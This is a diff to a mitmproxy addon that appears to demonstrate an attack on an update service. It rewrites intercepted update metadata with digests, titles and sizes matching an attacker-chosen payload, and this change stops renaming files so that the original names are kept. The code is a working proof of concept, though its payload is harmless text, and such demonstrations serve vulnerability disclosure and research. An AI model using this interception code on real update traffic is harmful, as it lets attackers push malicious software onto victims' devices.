@@ -1,6 +1,7 @@
 """What an attacker on the way does: updates are given another payload, with digests that fit, and that payload is served.
 
-An addon of mitmdump. Metadata has no signature, so whoever can alter it chooses what is installed. The payload is harmless text.
+An addon of mitmdump. Metadata has no signature, so whoever can alter it chooses what is installed. Files keep their names, so that the program
+that an update starts is still one of its own files. The payload is harmless text.
 """
 
 import base64
@@ -11,7 +12,6 @@ import re
 from mitmproxy import http
 
 PAYLOAD = b"what the attacker wants to run\n"
-NAME = "owned.exe"
 TITLE = "Owned"
 SHA1 = base64.b64encode(hashlib.sha1(PAYLOAD).digest()).decode()
 SHA256 = base64.b64encode(hashlib.sha256(PAYLOAD).digest()).decode()
@@ -44,7 +44,6 @@ def response(flow: http.HTTPFlow) -> None:
     text = re.sub(r'(Digest=(?:"|&quot;))[A-Za-z0-9+/]{27}=', lambda match: match.group(1) + SHA1, text)
     text = re.sub(r"((?:&lt;|<)Title(?:&gt;|>))[^&<]*", lambda match: match.group(1) + TITLE, text)
     text = re.sub(r"(<FileDigest>)[^<]*", lambda match: match.group(1) + SHA1, text)
-    text = re.sub(r'(FileName=(?:"|&quot;))[^"&]*', lambda match: match.group(1) + NAME, text)
     text = re.sub(r'(FileName=(?:"|&quot;)[^&]*?(?:"|&quot;)[^&]*?Size=(?:"|&quot;))\d+', lambda match: match.group(1) + str(len(PAYLOAD)), text)
     text = re.sub(r"(Algorithm=(?:\"|&quot;)SHA256(?:\"|&quot;)\s*(?:&gt;|>))[A-Za-z0-9+/]{43}=", lambda match: match.group(1) + SHA256, text)
     # Addresses of content lead to whoever answers here: the origin that the device asked.
